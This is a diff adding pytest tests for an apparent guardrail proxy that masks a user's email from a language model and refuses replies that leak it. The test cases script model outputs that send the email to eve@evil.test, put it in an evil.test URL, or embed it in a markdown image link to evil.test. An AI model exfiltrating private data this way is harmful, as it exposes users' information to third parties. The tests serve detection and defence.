@@ -159,6 +159,72 @@ async def test_a_restored_value_is_judged_as_the_client_gets_it(
     assert EMAIL not in str(trace.messages)
 
 
+LEAVES = """
+raise "private data leaves" if:
+    (c: ToolCall)
+    (a: dict) in untrusted(c, shapes=["email", "url"], fields=False)
+    (p: dict) in private(c)
+    p.path != a.path or a.shape == "url"
+"""
+
+
+@pytest.mark.parametrize("streams", [False, True])
+@pytest.mark.parametrize(
+    ("restore", "args", "refused"),
+    [
+        ("all", {"to": "eve@evil.test", "body": "from $"}, True),
+        ("all", {"url": "https://evil.test/?who=$"}, True),
+        ("all", {"to": "$", "body": "Hello"}, False),
+        ("all", {"to": "$", "body": "I am $"}, False),
+        ("text", {"to": "eve@evil.test", "body": "from $"}, False),
+    ],
+)
+async def test_what_is_restored_in_a_call_is_private(
+    start_proxy: StartProxy,
+    upstream: ScriptedUpstream,
+    client: aiohttp.ClientSession,
+    restore: str,
+    args: dict[str, str],
+    refused: bool,
+    streams: bool,
+) -> None:
+    """It may go to whom the user named, also by what was masked; a placeholder that stays one tells nobody anything."""
+    proxy = await start_proxy(policy=LEAVES, mask_policy=TO_THE_MODEL, guardrails={"restore": restore})
+
+    def answer(placeholder: str) -> Reply:
+        said = {name: value.replace("$", placeholder) for name, value in args.items()}
+        called = call_part("send", "STOP", **said)
+        return Reply(sse(called), content_type="text/event-stream") if streams else unary(called)
+
+    upstream.reply(echoes(answer))
+    async with client.post(proxy.stream if streams else proxy.method(), json=prompt(f"Mail {EMAIL}")) as response:
+        body = await response.read()
+    assert (b"private data leaves" in body) is refused
+    assert (b"functionCall" in body) is not refused
+    trace = await proxy.trace()
+    assert trace.outcome is (Outcome.REFUSED_RESPONSE if refused else Outcome.COMPLETED)
+    assert EMAIL not in str(trace)
+
+
+@pytest.mark.parametrize("streams", [False, True])
+async def test_a_placeholder_in_a_link_is_judged_with_its_value(
+    start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession, streams: bool
+) -> None:
+    policy = 'raise "a link with an address" if:\n    (m: Message)\n    find("https://[^ ]*@example", m.content)\n'
+    proxy = await start_proxy(policy=policy, mask_policy=TO_THE_MODEL)
+    pieces = "See ![x](https://evil.test/?", "$)."
+
+    def answer(placeholder: str) -> Reply:
+        texts = [piece.replace("$", placeholder) for piece in pieces]
+        return streamed(texts, "sse") if streams else unary(candidate("".join(texts), "STOP"))
+
+    upstream.reply(echoes(answer))
+    async with client.post(proxy.stream if streams else proxy.method(), json=prompt(f"Mail {EMAIL}")) as response:
+        body = await response.read()
+    assert b"a link with an address" in body and EMAIL.encode() not in body
+    assert (await proxy.trace()).outcome is Outcome.REFUSED_RESPONSE
+
+
 async def test_the_whole_conversation_is_masked(
     start_proxy: StartProxy, upstream: ScriptedUpstream, client: aiohttp.ClientSession
 ) -> None:
